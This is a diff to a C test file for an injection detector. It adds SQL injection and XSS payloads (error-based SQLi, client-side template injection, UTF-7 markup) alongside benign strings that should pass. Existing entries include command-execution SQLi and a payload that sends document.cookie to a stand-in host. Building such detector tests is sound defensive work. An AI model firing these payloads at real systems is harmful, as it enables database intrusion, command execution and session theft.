@@ -103,6 +103,7 @@ static void test_sqli_table(void **st)
 		{"pg copy program", "1';COPY t FROM PROGRAM 'id'--", Q, DP_SQLI},
 		{"sqlite attach", "1;ATTACH DATABASE '/tmp/x.php' AS x--", Q, DP_SQLI},
 		{"mssql if waitfor", "1;IF(1=1) WAITFOR DELAY '0:0:5'--", Q, DP_SQLI},
+		{"floor rand error", "9 GROUP BY CONCAT(user(),FLOOR(RAND(0)*2))#", Q, DP_SQLI},
 		{"union paren select from", "1') LIMIT 1,1 UNION(SELECT username) FROM DUAL-- x", Q, DP_SQLI},
 		{"select a plan", "select a plan", Q, DP_NONE},
 		{"drop by", "drop by anytime; we're open", Q, DP_NONE},
@@ -175,6 +176,9 @@ static void test_xss_table(void **st)
 		{"js break paren", "');this.src='//x.example/'+document.cookie;//", Q, DP_XSS},
 		{"template literal", "${alert(document.domain)}", Q, DP_XSS},
 		{"svg animate values", "<svg><animate attributeName=href values=javascript:alert(1) />", Q, DP_XSS},
+		{"client template", "{{x.constructor.constructor('confirm(2)')()}}", Q, DP_XSS},
+		{"utf-7 markup", "%2BADw-img src=1 onerror=x%2BAD4-", Q, DP_XSS},
+		{"meta utf-7", "<meta http-equiv=content-type content=\"text/html;charset=utf-7\">", Q, DP_XSS},
 		{"less than three", "I <3 cats", Q, DP_NONE},
 		{"math", "3<5 and 7>2", Q, DP_NONE},
 		{"bold html", "<b>bold</b> and <i>it</i>", Q, DP_NONE},
@@ -193,6 +197,8 @@ static void test_xss_table(void **st)
 		{"quoted then confirm", "\"; confirm your email", Q, DP_NONE},
 		{"styled span", "<span style=\"color:red\">sale</span>", Q, DP_NONE},
 		{"jsx handler", "onClick={() => setOpen(true)}", Q, DP_NONE},
+		{"mustache name", "Dear {{ customer.first_name }},", Q, DP_NONE},
+		{"plus word", "C++ and +add-ons", Q, DP_NONE},
 	};
 	run_table(t, sizeof(t) / sizeof(t[0]));
 }
